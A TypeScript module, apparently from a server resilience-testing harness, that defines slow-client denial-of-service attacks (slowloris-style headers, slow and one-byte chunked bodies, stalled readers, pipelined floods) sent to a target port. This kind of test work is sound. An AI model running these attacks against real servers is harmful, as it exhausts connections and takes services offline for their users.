/** Clients that take their time: for a head, a body, an answer; or that send a body in pieces of one byte. */
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Target } from '../attack.ts';
import { type Raw, several } from '../raw.ts';

/** Until the window is over, each sends `piece` again and again; then they leave. */
async function dribble(all: readonly Raw[], { over }: Target, piece: (n: number) => string, pause: number) {
  while (!over.aborted) {
    await sleep(pause);
    for (const [n, one] of all.entries()) one.send(piece(n));
  }
  for (const one of all) one.close();
}

export const slowHeads: Attack = {
  name: 'slow-heads',
  title: '500 heads, some bytes every 100 ms',
  async run(target) {
    const all = several(500, target.port);
    for (const one of all) one.send('GET / HTTP/1.1\r\nHost: abuse.example\r\n');
    await dribble(all, target, () => 'X-A: b\r\n', 100);
    return { attackers: all.length };
  },
};

export const slowBodies: Attack = {
  name: 'slow-bodies',
  title: '500 bodies, a byte every 100 ms',
  async run(target) {
    const all = several(500, target.port);
    for (const one of all) one.send('POST / HTTP/1.1\r\nHost: abuse.example\r\nContent-Length: 100000\r\n\r\n');
    await dribble(all, target, () => 'x', 100);
    return { attackers: all.length };
  },
};

export const tinyChunks: Attack = {
  name: 'tiny-chunks',
  title: '200 bodies in chunks of one byte',
  async run(target) {
    const all = several(200, target.port);
    for (const one of all) one.send('POST / HTTP/1.1\r\nHost: abuse.example\r\nTransfer-Encoding: chunked\r\n\r\n');
    const piece = '1\r\nx\r\n'.repeat(10);
    await dribble(all, target, () => piece, 20);
    return { attackers: all.length };
  },
};

export const stalledReaders: Attack = {
  name: 'stalled-readers',
  title: '50 clients that read nothing of 4 MB',
  settle: 800,
  async run({ port, over }) {
    const all = several(50, port, false);
    for (const one of all) one.send('GET /large HTTP/1.1\r\nHost: abuse.example\r\n\r\n');
    while (!over.aborted) await sleep(20);
    for (const one of all) one.close();
    return { attackers: all.length };
  },
};

export const pipelinedRest: Attack = {
  name: 'pipelined-rest',
  title: '50 clients with 500 KB of requests behind one that is not answered',
  settle: 500,
  async run({ port, over }) {
    const all = several(50, port);
    const request = 'GET / HTTP/1.1\r\nHost: abuse.example\r\n\r\n';
    const rest = request.repeat(Math.ceil(500_000 / request.length));
    for (const one of all) one.send(`GET /slow?ms=30000 HTTP/1.1\r\nHost: abuse.example\r\n\r\n${rest}`);
    while (!over.aborted) await sleep(20);
    for (const one of all) one.close();
    return { attackers: all.length };
  },
};
